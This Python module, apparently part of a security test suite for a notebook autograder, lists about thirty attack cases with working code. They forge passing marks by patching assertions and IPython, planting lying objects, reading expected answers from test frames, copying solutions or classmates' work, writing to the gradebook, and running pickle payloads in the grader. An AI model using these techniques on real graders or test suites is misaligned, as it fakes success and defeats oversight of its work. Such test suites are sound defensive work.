"""Marks for questions that were not answered."""

from attack import WRITE_MARKS, Attack, gained, gained_or_disturbed, tests_of
from nbformat import NotebookNode
from nbformat.v4 import new_output

_YES = """
class Yes:
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs):
        return self
    __getitem__ = __getattr__
    def __eq__(self, other):
        return True
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __ne__(self, other):
        return False
    def __sub__(self, other):
        return 0.0
    __rsub__ = __add__ = __radd__ = __sub__
    def __float__(self):
        return 0.0
    def __hash__(self):
        return 0
    def __len__(self):
        return 2
    def __iter__(self):
        return iter((self, self))
"""
_EVERYTHING = "clamp = summary = clean = Ward = rate = Yes()\n"

_STEAL_FROM_ASSERT = """
import ast
def sources(frame):
    import linecache
    while frame:
        yield "".join(linecache.getlines(frame.f_code.co_filename))
        frame = frame.f_back
    yield from globals().get("In", [])
def expected(name, args, frame):
    for text in sources(frame):
        if "assert" not in text:
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Compare) and getattr(node.left, "func", None):
                if getattr(node.left.func, "id", "") == name:
                    scope = {**frame.f_globals, **frame.f_locals}
                    given = [eval(ast.unparse(each), scope) for each in node.left.args]
                    if given == list(args):
                        return eval(ast.unparse(node.comparators[0]), scope)
def clamp(*args):
    return expected("clamp", args, sys._getframe(1))
"""


def _prefilled(notebook: NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.outputs = [new_output("execute_result", {"text/plain": "2.0"}, execution_count=1)]
        cell.metadata["ecole"] = {"execution": {"state": "ok", "seconds": 0.1, "sealed": True}}


FORGING: list[Attack] = [
    Attack(
        "shadowed-builtins",
        "forging",
        "marks from tests that call builtins it replaced (abs, round)",
        gained,
        {
            "clamp": """\
import builtins
builtins.abs = builtins.round = lambda *args: 0
def clamp(value, low, high):
    return None"""
        },
    ),
    Attack(
        "shadowed-modules",
        "forging",
        "marks from tests that use modules it replaced (json, pandas, statistics)",
        gained,
        {
            "summary": _YES
            + """\
import types
Path('summary.json').write_text('{}')
fake = types.SimpleNamespace(loads=lambda text: {'days': 25})
json = sys.modules['json'] = fake
pd = sys.modules['pandas'] = Yes()
sys.modules['statistics'] = Yes()
summary = {'n': -1}"""
        },
    ),
    Attack(
        "shadowed-helper",
        "forging",
        "marks from tests that call a helper of a locked cell, which it defined again",
        gained,
        {
            "rate": """\
close = lambda a, b: True
def rate(events, days):
    return -1.0"""
        },
    ),
    Attack(
        "emptied-data",
        "forging",
        "a trivial expected value, by emptying the data that a locked cell gave",
        gained,
        {
            "summary": """\
stays.drop(stays.index, inplace=True)
summary = {'n': 0, 'days': 0}""",
        },
    ),
    Attack(
        "numpy-testing",
        "forging",
        "marks from numpy.testing functions that it patched",
        gained,
        {
            "rate": """\
for name in dir(np.testing):
    if name.startswith('assert'):
        setattr(np.testing, name, lambda *args, **kwargs: None)
def rate(events, days):
    return -1.0"""
        },
    ),
    Attack(
        "pandas-testing",
        "forging",
        "marks from pandas.testing functions that it patched",
        gained,
        {
            "clean": """\
pd.testing.assert_frame_equal = lambda *args, **kwargs: None
pd._testing.assert_frame_equal = lambda *args, **kwargs: None
pd.DataFrame.equals = lambda *args: True
def clean(frame):
    return None"""
        },
    ),
    Attack(
        "equal-to-everything",
        "forging",
        "marks for objects that are equal to everything",
        gained,
        {"clamp": _YES + _EVERYTHING, "summary": "", "clean": "", "ward": "", "rate": ""},
    ),
    Attack(
        "lying-subclasses",
        "forging",
        "marks for subclasses of int, float, dict and DataFrame that compare as equal",
        gained,
        {
            "clamp": """\
class Int(int):
    __eq__ = lambda self, other: True
    __hash__ = None
def clamp(value, low, high):
    return Int(-1)""",
            "summary": """\
class Dict(dict):
    __eq__ = lambda self, other: True
    __getitem__ = lambda self, key: Int(25)
summary = Dict(n=-1)""",
            "clean": """\
class Frame(pd.DataFrame):
    equals = lambda self, other: True
    __eq__ = lambda self, other: True
def clean(frame):
    return Frame({'x': [1]})""",
            "rate": """\
class Float(float):
    __sub__ = lambda self, other: 0.0
def rate(events, days):
    return Float(-1)""",
        },
    ),
    Attack(
        "ast-transformer",
        "forging",
        "marks by an AST transformer of IPython that strips assertions",
        gained,
        {
            "clamp": """\
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
def clamp(value, low, high):
    return None"""
        },
    ),
    Attack(
        "input-transformer",
        "forging",
        "marks by an input transformer of IPython that empties the test cells",
        gained,
        {
            "clamp": """\
get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if any('assert' in each for each in lines) else lines)
def clamp(value, low, high):
    return None"""
        },
    ),
    Attack(
        "patched-ipython",
        "forging",
        "marks by replacing the method of IPython that runs code",
        gained,
        {
            "clamp": """\
shell = get_ipython()
async def run_code(*args, **kwargs):
    return False
shell.run_code = run_code
type(shell).run_code = lambda self, *args, **kwargs: run_code()
"""
        },
    ),
    Attack(
        "silenced-errors",
        "forging",
        "marks by hiding tracebacks and answering the grader that all is well",
        gained,
        {
            "clamp": """\
shell = get_ipython()
shell._showtraceback = shell.showtraceback = lambda *args, **kwargs: None
kernel = getattr(shell, 'kernel', None)
if kernel is not None:
    execute = kernel.do_execute
    async def do_execute(*args, **kwargs):
        reply = await execute(*args, **kwargs)
        return {**reply, 'status': 'ok', 'payload': [], 'user_expressions': {}}
    kernel.do_execute = do_execute
"""
        },
    ),
    Attack(
        "trace-function",
        "forging",
        "marks by a trace function that swaps the code about to run for an empty one",
        gained,
        {
            "clamp": """\
EMPTY = compile('None', '<empty>', 'exec')
def swap(frame, event, arg):
    if 'code_obj' in frame.f_locals:
        frame.f_locals['code_obj'] = EMPTY
    return swap
def watch(frame, event, arg):
    return swap if frame.f_code.co_name == 'run_code' else None
import threading
threading.settrace(watch)
sys.settrace(watch)
def clamp(value, low, high):
    return None"""
        },
    ),
    Attack(
        "atexit",
        "forging",
        "marks entered after grading, by a process that it starts as its own ends",
        gained,
        {
            "clamp": """\
import atexit, subprocess
CODE = '''import os, time
time.sleep(1.5)
"""
            + WRITE_MARKS.replace("'''", '"""').format(score=2, who="@NAME@")
            + """\
'''
def late():
    subprocess.Popen([sys.executable, '-c', CODE], start_new_session=True)
atexit.register(late)
def clamp(value, low, high):
    return None"""
        },
    ),
    Attack(
        "display-hook",
        "forging",
        "partial credit through display hooks that show another number",
        gained,
        {
            "rate": """\
shell = get_ipython()
plain = shell.display_formatter.formatters['text/plain']
for kind in (float, int, np.float64):
    plain.for_type(kind, lambda value, printer, cycle: printer.text('2.0'))
sys.displayhook = lambda value: None
def rate(events, days):
    return -1.0"""
        },
    ),
    Attack(
        "planted-result",
        "forging",
        "partial credit by publishing a result of its own during the test",
        gained,
        {
            "rate": """\
def rate(events, days):
    kernel = get_ipython().kernel
    content = {'data': {'text/plain': '2.0'}, 'metadata': {}, 'execution_count': 1}
    kernel.session.send(kernel.iopub_socket, 'execute_result', content,
                        parent=kernel.get_parent('shell'))
    return -1.0"""
        },
    ),
    Attack(
        "posing-exceptions",
        "forging",
        "marks for exceptions that pose as a regular end (SystemExit, KeyboardInterrupt, skips)",
        gained,
        {
            "clamp": "def clamp(value, low, high):\n    raise SystemExit(0)",
            "clean": """\
import unittest
def clean(frame):
    raise unittest.SkipTest('nothing to see')""",
            "ward": """\
class Fine(BaseException):
    __class__ = property(lambda self: SystemExit)
    def __str__(self):
        raise SystemExit(0)
    __repr__ = __str__
    def _render_traceback_(self):
        raise KeyboardInterrupt
class Ward:
    def __init__(self, name, beds):
        raise Fine()""",
            "rate": "def rate(events, days):\n    raise GeneratorExit",
        },
    ),
    Attack(
        "quiet-death",
        "forging",
        "marks by ending the process with status 0 while it is tested",
        gained,
        {"clamp": "def clamp(value, low, high):\n    os._exit(0)"},
    ),
    Attack(
        "replaced-class",
        "forging",
        "marks for objects whose __class__ names the type that a test asks for",
        gained,
        {
            "ward": """\
class Chameleon:
    def __init__(self, kind):
        self.kind = kind
    __class__ = property(lambda self: self.kind)
    __eq__ = lambda self, other: True
    __hash__ = None
    __add__ = __radd__ = lambda self, other: self
class Ward:
    def __init__(self, name, beds):
        self.beds = Chameleon(int)
        self.times = 0
    def label(self):
        return Chameleon(str)
    def admit(self, patient):
        self.times += 1
        if self.times > 1:
            error = Chameleon(ValueError)
            raise type('ValueError', (ValueError,), {})()
"""
        },
    ),
    Attack(
        "fake-repr",
        "forging",
        "partial credit for an object whose repr is the full mark",
        gained,
        {
            "rate": """\
class Points:
    def __repr__(self):
        return '2.0'
    _repr_mimebundle_ = lambda self, **kw: {'text/plain': '2.0'}
    __abs__ = __float__ = lambda self: self
    __sub__ = __add__ = __radd__ = __lt__ = lambda self, other: self
def rate(events, days):
    return Points()"""
        },
    ),
    Attack(
        "forged-wire",
        "forging",
        "marks by writing 'passed' into every descriptor it holds and patching the grader's code",
        gained_or_disturbed,
        {
            "clamp": """\
import struct, stat, threading
for module in list(sys.modules.values()):
    if getattr(module, '__name__', '').startswith('autograder'):
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type):
                setattr(module, key, lambda *args, **kwargs: True)
def shout():
    words = (b'\\xc3', b'ok', b'\\x81\\xa6status\\xa2ok', b'{"state": "ok"}')
    for name in os.listdir('/proc/self/fd'):
        try:
            if not stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                continue
            os.set_blocking(int(name), False)
            for word in words:
                for form in ('>I', '<I', '>Q', '<Q'):
                    os.write(int(name), struct.pack(form, len(word)) + word)
        except (OSError, ValueError):
            pass
def clamp(value, low, high):
    shout()""",
            "summary": "shout()\nsummary = {'n': -1}",
        },
    ),
    Attack(
        "array-protocols",
        "forging",
        "marks for arrays whose numpy protocols answer True to every comparison",
        gained,
        {
            "rate": """\
class Array(np.ndarray):
    def __array_function__(self, *args, **kwargs):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return np.array([False, False])
def rate(events, days):
    return np.array([9.0, 9.0]).view(Array)"""
        },
    ),
    Attack(
        "raw-pointers",
        "forging",
        "the grader's death, or its memory, through array interfaces with raw pointers",
        gained_or_disturbed,
        {
            "rate": """\
class Pointer:
    __array_interface__ = {'shape': (2,), 'typestr': '<f8', 'version': 3,
                           'data': (0xdead0000, True)}
    __array_struct__ = 0xdead0000
    def __dlpack__(self, **kwargs):
        return 0xdead0000
    def __dlpack_device__(self):
        return (1, 0)
    def __sub__(self, other):
        return 1.0
def rate(events, days):
    return Pointer()""",
            "clean": """\
class Arrow:
    __arrow_c_stream__ = __arrow_c_array__ = lambda self, *args: 0xdead0000
    def __buffer__(self, flags):
        raise SystemError
    columns = index = property(lambda self: Arrow())
def clean(frame):
    return Arrow()""",
        },
    ),
    Attack(
        "endless-attributes",
        "forging",
        "a test that never ends, or passes, through attributes that lead on for ever",
        gained_or_disturbed,
        {
            "clamp": """\
import time
ENDS = time.monotonic() + 120
class Endless:
    def __getattribute__(self, name):
        if name == 'patients':
            while time.monotonic() < ENDS:
                pass
        return Endless()
    def __getattr__(self, name):
        return Endless()
    def __call__(self, *args, **kwargs):
        return Endless()
    def __iter__(self):
        return self
    def __next__(self):
        return Endless()
    def __index__(self):
        return Endless().__index__()
clamp = rate = Endless()""",
            "summary": "summary = Endless()",
            "ward": """\
class Ward(Endless):
    def __init__(self, *args):
        pass
    def label(self):
        return self.patients""",
            "rate": "",
        },
    ),
    Attack(
        "changing-answers",
        "forging",
        "marks for answers that differ each time they are read",
        gained,
        {
            "clamp": """\
class Int(int):
    times = 0
    def __eq__(self, other):
        Int.times += 1
        return Int.times % 2 == 1
    __hash__ = None
def clamp(value, low, high):
    return Int(-1)""",
            "summary": """\
import itertools
class Moving(dict):
    reads = itertools.count()
    def __getitem__(self, key):
        return Int(next(self.reads))
    def __eq__(self, other):
        self.update(other)
        return dict(self) == other
    __hash__ = None
summary = Moving(n=-1)""",
        },
    ),
    Attack(
        "answer-in-the-assert",
        "forging",
        "marks by reading the expected value off the assertion that calls it",
        gained,
        {"clamp": _STEAL_FROM_ASSERT},
    ),
    Attack(
        "answer-in-a-frame",
        "forging",
        "marks by returning the expected table found among its caller's names",
        gained,
        {
            "clean": """\
def clean(frame):
    caller = sys._getframe(1)
    while caller:
        for scope in (caller.f_locals, caller.f_globals):
            if isinstance(scope.get('expected'), pd.DataFrame):
                return scope['expected'].copy()
        caller = caller.f_back"""
        },
    ),
    Attack(
        "copied-solution",
        "forging",
        "marks by running the solutions found in the course's source folder",
        gained,
        {
            "clamp": """\
try:
    found = json.load(open('@COURSE@/source/exam/exam.ipynb'))['cells']
    for cell in found:
        if cell['metadata'].get('nbgrader', {}).get('solution'):
            exec(''.join(cell['source']), globals())
except OSError:
    clamp = None
kept = clamp""",
            "summary": "",
            "clean": "",
            "ward": "",
            "rate": "",
        },
    ),
    Attack(
        "copied-classmate",
        "forging",
        "marks by running the answers of a classmate's submission",
        gained,
        {
            "clamp": """\
try:
    found = json.load(open('@COURSE@/submitted/@HONEST@/exam/exam.ipynb'))['cells']
    for cell in found:
        if cell['metadata'].get('nbgrader', {}).get('solution'):
            exec(''.join(cell['source']), globals())
except OSError:
    clamp = None""",
            "summary": "",
            "clean": "",
            "ward": "",
            "rate": "",
        },
    ),
    Attack(
        "module-handed-in",
        "forging",
        "marks by handing in files named like the modules that the tests import",
        gained,
        files={
            "statistics.py": "mean = lambda values: -1.0",
            "health_datasets.py": """\
import builtins
exam_seed = lambda name: 0
builtins.abs = lambda x: 0""",
            "sitecustomize.py": "import builtins\nbuiltins.abs = lambda x: 0",
        },
    ),
    Attack(
        "module-written",
        "forging",
        "marks by writing a module that the tests will import into the working directory",
        gained,
        {
            "rate": """\
Path('statistics.py').write_text(
    'import builtins\\nbuiltins.abs = lambda x: 0\\nmean = lambda v: -1.0')
sys.modules.pop('statistics', None)
sys.path.insert(0, os.getcwd())
def rate(events, days):
    return -1.0"""
        },
    ),
    Attack(
        "linked-answer",
        "forging",
        "marks for an answer file that is a link to a classmate's",
        gained,
        {
            "summary": """\
os.symlink('@COURSE@/submitted/@HONEST@/exam/summary.json',
           'summary.json')
summary = {'n': -1}"""
        },
    ),
    Attack(
        "marks-in-the-gradebook",
        "forging",
        "marks entered by hand, by writing into the gradebook",
        gained,
        {"rate": WRITE_MARKS.format(score=2, who="@NAME@") + "rate = None"},
    ),
    Attack(
        "prefilled-outputs",
        "forging",
        "marks for results and execution records that it handed in with its test cells",
        gained,
        edits=_prefilled,
    ),
    Attack(
        "pickle-bomb",
        "forging",
        "its own code in the grader's process, through objects that unpickle as a call",
        lambda outcome: outcome.gained() or outcome.connected("tcp"),
        {
            "clamp": """\
CODE = '''
import builtins, socket
builtins.abs = lambda x: 0
try:
    socket.create_connection(('127.0.0.1', @TCP@), 2).send(b'@MARK@')
except OSError:
    pass
'''
class Bomb:
    def __reduce_ex__(self, protocol):
        return exec, (CODE,)
    __reduce__ = lambda self: (exec, (CODE,))
    __getstate__ = __deepcopy__ = __copy__ = lambda self, *a: exec(CODE)
def clamp(value, low, high):
    return Bomb()""",
            "summary": "summary = {'n': Bomb(), 'days': [Bomb()]}",
            "clean": """\
def clean(frame):
    frame = pd.DataFrame({'ward': [Bomb(), Bomb()]})
    frame.attrs['bomb'] = Bomb()
    return frame""",
            "rate": """\
def rate(events, days):
    return np.array([Bomb(), Bomb()], dtype=object)""",
        },
    ),
]
